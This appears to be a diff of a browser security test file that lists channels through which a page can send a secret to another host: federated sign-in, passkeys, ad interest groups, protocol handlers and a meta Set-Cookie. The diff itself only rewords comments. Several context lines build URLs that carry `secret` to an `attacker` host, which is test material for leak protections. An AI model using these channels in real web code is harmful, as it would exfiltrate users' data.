@@ -1,4 +1,4 @@
-/** Services of the browser that ask other hosts on a page's behalf. */
+/** Channels by services of the browser that send requests for a page, such as sign-in, passkeys and payment. */
 
 way("federated sign-in", ({ attacker, secret }) => signIn(`${attacker}/${secret}.json`));
 way("federated sign-in: the list at a name", ({ name }) => signIn(`https://${name}/x.json`), ALONE);
@@ -22,7 +22,7 @@ way("interest group", ({ trap }) => navigator.joinAdInterestGroup({ owner: `http
 way("protocol handler", ({ own, secret }) => navigator.registerProtocolHandler("web+x", `${own}/?${secret}&q=%s`));
 way("a cookie by an element", ({ secret }) => put("meta", { "http-equiv": "Set-Cookie", content: `x=${secret}` }, document.head));
 
-/** Asks about passkeys one after another: the browser refuses a second request of a page while one is pending. */
+/** Sends passkey requests one after another, because the browser refuses a second one while one is pending. */
 let lastRequest = Promise.resolve();
 function inTurn(ask) {
   const asked = lastRequest.then(ask);
@@ -30,7 +30,10 @@ function inTurn(ask) {
   return asked;
 }
 
-/** Only one may be asked for at a time, so it is given up soon. @param {string} configURL */
+/**
+ * Asks for a federated sign-in for at most 900 ms, because only one can be pending at a time.
+ * @param {string} configURL
+ */
 function signIn(configURL) {
   const signal = AbortSignal.timeout(900);
   return navigator.credentials.get({ signal, identity: { providers: [{ configURL, clientId: "x" }] } });
